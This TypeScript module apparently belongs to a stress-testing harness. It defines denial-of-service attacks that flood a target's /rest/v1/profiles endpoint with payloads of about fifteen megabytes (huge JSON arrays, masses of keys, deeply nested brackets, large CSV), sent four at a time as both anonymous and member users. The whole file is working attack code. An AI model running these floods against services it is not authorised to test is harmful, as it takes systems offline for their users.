import type { Attack } from './attack.ts';
import { anonymousHeaders, keepSending, memberHeaders, send } from './send.ts';

const repeated = (text: string, bytes: number) => text.repeat(Math.ceil(bytes / text.length));
const shapes = [
  { shape: 'rows', type: 'application/json', body: () => `[${repeated('{},', 15e6)}{}]` },
  {
    shape: 'keys',
    type: 'application/json',
    body: () => `{${Array.from({ length: 900_000 }, (_, at) => `"k${at}":1`).join(',')}}`,
  },
  { shape: 'brackets', type: 'application/json', body: () => '['.repeat(14e6) },
  { shape: 'CSV', type: 'text/csv', body: () => `id,full_name\n${repeated('a,b\n', 15e6)}` },
];
const senders = [
  { from: 'anonymous', headersOf: anonymousHeaders },
  { from: 'a member', headersOf: memberHeaders },
];

/** H2: bodies of fifteen megabytes, four at a time. */
export const attacks: readonly Attack[] = senders.flatMap(({ from, headersOf }) =>
  shapes.map(({ shape, type, body }) => ({
    name: `H2 bodies of ${shape}, ${from}`,
    run: async (target, signal) => {
      const bytes = Buffer.from(body());
      const headers = { ...headersOf(target), 'content-type': type };
      await keepSending(4, signal, (ending) =>
        send(`${target.portal}/rest/v1/profiles`, { method: 'POST', headers, body: bytes }, ending),
      );
    },
  })),
);
